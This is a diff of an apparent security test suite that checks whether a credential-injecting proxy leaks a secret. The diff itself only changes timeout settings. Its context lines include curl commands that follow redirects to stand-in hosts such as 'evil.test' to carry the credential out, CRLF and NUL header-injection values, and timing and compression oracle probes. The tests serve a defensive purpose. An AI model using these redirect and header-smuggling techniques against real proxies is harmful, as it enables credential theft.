@@ -13,7 +13,7 @@ def sized(text, head="HTTP/1.1 200 OK\r\n"):
     return f"{head}Connection: close\r\n\r\n{text}"
 
 
-@attack("E02", conditions=("partial",), quick=True)
+@attack("E02", conditions=("partial",), seconds=150, quick=True)
 def reflected(t):
     """The upstream shows what it got: in bodies, heads, redirects, chunks, compressed, encoded, cut in two"""
     world, secret = t.world, t.world.secrets["a credential"]
@@ -45,12 +45,12 @@ def reflected(t):
     gate.attempt("a range of the answer", get("odd.secret.test", do(sized("{auth}")), sni="odd.secret.test", headers="Range: bytes=0-3\r\n"), lambda seen: leaked(seen) or any("Range" in entry.get("headers", {}) for entry in seen.arrived))
     gate.attempt("a coding that the guest asks for", get("odd.secret.test", do(sized("{auth}")), sni="odd.secret.test", headers="Accept-Encoding: br, gzip\r\n"), lambda seen: leaked(seen) or any("br" in entry.get("headers", {}).get("Accept-Encoding", "") for entry in seen.arrived))
     gate.attempt("curl follows a redirect that shows it", command(f"curl -sS -L -m 12 'https://odd.secret.test{do('HTTP/1.1 302 Found' + chr(13) + chr(10) + 'Location: https://odd.test/?h={authpct}' + chr(13) + chr(10) + 'Content-Length: 0' + chr(13) + chr(10) + chr(13) + chr(10))}'"), leaked)
-    gate.go(limit=120)
+    gate.go()
     carried = [entry for entry in world.net.since(world.mark) if secret in str(entry)]
     t.attempt("another host got it", [entry for entry in carried if entry.get("host") != "odd.secret.test" or not entry.get("tls")], str(carried)[-200:])
 
 
-@attack("E03", "E04", "E06", "E07", "C27", conditions=("partial",), quick=True)
+@attack("E03", "E04", "E06", "E07", "C27", conditions=("partial",), seconds=150)
 def elsewhere(t):
     """Another host's connection, a forged destination, another port, path or method, a redirect"""
     world, secret = t.world, t.world.secrets["a credential"]
@@ -82,7 +82,7 @@ def elsewhere(t):
         for place in ("https://odd.test/followed-{m}", "https://allowed.test/followed-{m}", "http://odd.secret.test/followed-{m}", "https://evil.test/followed-{m}"):
             to = do(f"HTTP/1.1 {status}\r\nLocation: {place.replace('{m}', 'on')}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
             gate.attempt(f"C27: {status} to {place.split('/followed')[0]}", command(f"curl -sS -L -m 12 --post301 --post302 -d body https://odd.secret.test{to}"), lambda seen: False)
-    gate.go(limit=150)
+    gate.go()
     for entry in world.net.since(world.mark):
         if str(entry.get("path", "")).startswith("/followed"):
             t.attempt(f"C27: a redirect carries it to {entry.get('host')}", secret in str(entry), str(entry)[:200])
@@ -92,7 +92,7 @@ def elsewhere(t):
     t.control("C27: redirects to allowed hosts were followed", len(followed) >= 3, len(followed))
 
 
-@attack("E08", "E10", "E11", "E12", conditions=("partial",), quick=True)
+@attack("E08", "E10", "E11", "E12", conditions=("partial",), seconds=150, quick=True)
 def placeholders(t):
     """Placeholders where they are not replaced, values beside the secret, fields that are there already"""
     world = t.world
@@ -125,7 +125,7 @@ def placeholders(t):
         gate.attempt(f"E12: the guest's {what} beside the credential", get("odd.secret.test", "/x", sni="odd.secret.test", headers=headers), lambda seen: any("guest-" in str(entry["lines"]) for entry in seen.arrived))
     gate.control("E12: beside it another field of the guest's passes", get("odd.secret.test", "/{m}", sni="odd.secret.test", headers="X-Mine: guest-{m}\r\n"), lambda seen: "guest-" in str(seen.arrived) and one in str(seen.arrived))
     gate.attempt("E12: in HTTP/2 the guest's authorization beside nothing", h2([[[":method", "GET"], [":scheme", "https"], [":authority", "h2.test"], [":path", "/{m}"], ["x-api-key", mine]]]), lambda seen: seen.arrived)
-    gate.go(limit=150)
+    gate.go()
     api = world.attacker
     for what, value in {"CR": b"secret-value\rX: y", "LF": b"secret-value\nX: y", "NUL": b"secret\0value", "nothing": b"", "seven bytes": b"1234567", "9 kB": b"x" * 9000, "DEL": b"secret\x7fvalue"}.items():
         answer = api.call("PUT", "/v1/credentials/odd", value, {"Content-Type": "application/octet-stream"})
@@ -134,7 +134,7 @@ def placeholders(t):
     api.call("DELETE", "/v1/credentials/odd")
 
 
-@attack("E26", conditions=("partial",))
+@attack("E26", conditions=("partial",), seconds=150)
 def oracles(t):
     """Lengths and times with and without the credential, compression of secret and guest text together"""
     world = t.world
